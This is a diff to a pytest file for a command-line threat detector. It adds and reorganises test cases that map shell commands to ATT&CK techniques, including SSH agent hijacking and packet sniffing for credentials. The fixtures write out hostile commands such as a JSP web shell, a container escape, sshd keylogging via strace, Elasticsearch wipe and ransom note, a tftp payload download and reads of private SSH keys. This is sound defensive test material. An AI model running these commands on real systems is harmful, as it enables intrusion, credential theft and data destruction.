@@ -578,7 +578,6 @@ WHOLESALE_IMPACT_AND_SECRETS = [  # (line, technique, weight at least)
     ("printf '<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>' > /opt/tomcat/webapps/ROOT/s.jsp",
      "T1505.003", 0.6),
     ("""kubectl run x --image=alpine --overrides='{"spec":{"hostPID":true}}'""", "T1611", 0.5),
-    ("env SSH_AUTH_SOCK=/tmp/ssh-XXXXr4Zk/agent.2211 ssh -o StrictHostKeyChecking=no root@10.0.0.20", "T1563.001", 0.5),
     ("strace -f -p 811 -e trace=read,write -s 64 -o /var/tmp/.sshd.log", "T1056.001", 0.45),
     ("curl -s -XDELETE localhost:9200/_all", "T1485", 0.45),
     ("""curl -XPUT localhost:9200/read_me/_doc/1 -d '{"msg":"send 0.05 BTC to recover your data"}'""", "T1486", 0.45),
@@ -719,6 +718,8 @@ def test_their_everyday_uses_stay_weak(line: str) -> None:
     ("busybox tftp -g -r bot.sh -l /tmp/.b 198.51.100.7", "T1105", 0.35),  # an applet is judged as its program
     ("cp /tmp/shell.jsp /opt/tomcat/webapps/ROOT/status.jsp", "T1505.003", 0.5),
     ("cat /home/*/.ssh/id_*", "T1552.004", 0.5),
+    ("tcpdump -i eth0 -w /dev/shm/.p.pcap port 5432", "T1040", 0.45),
+    ("tshark -i eth0 -Y http.authorization -T fields -e http.authorization", "T1040", 0.45),
 ])
 def test_programs_started_past_their_wrappers_and_stores_read_sideways_are_named(line: str, technique: str,
                                                                                  weight: float) -> None:
@@ -736,6 +737,18 @@ def test_fake_prompts_and_server_settings_in_scripts_are_named(body: str, techni
     assert not assess(ProcessEvent("sh", f"sh -c {plain}", ("sh", "-c", plain)))
 
 
+@pytest.mark.parametrize(("line", "borrowed"), [
+    ("env SSH_AUTH_SOCK=/tmp/ssh-XXXXr4Zk/agent.2211 ssh -o StrictHostKeyChecking=no root@10.0.0.20", True),
+    ("sh -c SSH_AUTH_SOCK=$(ls /tmp/ssh-*/agent.* | head -1) ssh-add -l", True),
+    ("bash -c export SSH_AUTH_SOCK=/tmp/ssh-kQ2/agent.811; ssh root@10.1.2.40", True),
+    ("env SSH_AUTH_SOCK=/run/user/1000/keyring/ssh git pull", False),
+])
+def test_another_logins_forwarded_agent_set_by_hand_is_its_keys_borrowed(line: str, borrowed: bool) -> None:
+    args = tuple(line.split(" ", 2)) if line.startswith(("sh", "bash")) else tuple(line.split())
+    found = {e.technique for e in assess(ProcessEvent(args[0], line, args))}
+    assert ("T1563.001" in found) == borrowed, found
+
+
 def test_a_program_started_under_another_name_is_masquerading() -> None:
     body = "exec -a '/usr/sbin/cron -f' /var/tmp/.c/c"
     found = {e.technique: e.weight for e in assess(ProcessEvent("bash", f"bash -c {body}", ("bash", "-c", body)))}
@@ -750,7 +763,8 @@ def test_a_program_started_under_another_name_is_masquerading() -> None:
     "/lib64/ld-linux-x86-64.so.2 /usr/bin/python3",  # what ldd runs
     "modprobe nf_conntrack", "make -C /lib/modules/6.1.0-18-amd64/build M=/home/admin/src/drv modules",
     "busctl status", "kill -HUP 1", "kill -s 15 4242", "busybox ls /", "cat ~/.ssh/id_*.pub",
-    "cp /srv/release/index.php /var/www/html/index.php",
+    "cp /srv/release/index.php /var/www/html/index.php", "tcpdump -i any -w /tmp/ticket-4411.pcap host 10.1.2.5",
+    "tcpdump -i eth0 -nn port 443 -c 100",
     "gdbus introspect --system --dest org.freedesktop.Accounts --object-path /org/freedesktop/Accounts",
 ])
 def test_their_everyday_neighbours_stay_weak(line: str) -> None:
